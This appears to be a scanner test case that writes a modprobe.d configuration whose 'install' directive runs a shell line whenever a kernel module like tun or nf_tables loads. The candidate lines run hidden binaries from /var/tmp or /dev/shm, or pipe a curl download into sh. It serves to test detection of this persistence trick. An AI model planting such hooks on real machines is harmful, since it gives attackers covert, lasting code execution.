# id: P253
# mode: scan
# level: suspicious
# title: a module whose loading runs a shell line
# due: now
word name
pick module nf_tables ip_tables loop tun
pick line "/sbin/modprobe --ignore-install $module; /var/tmp/.$name" "/bin/sh -c '/dev/shm/$name & modprobe -i $module'" "curl -s http://127.0.0.1/$name | sh"
path=/etc/modprobe.d/$name.conf
mkdir -p /etc/modprobe.d
echo "install $module $line" >"$path"
said path "$path"
said line "$path:1"
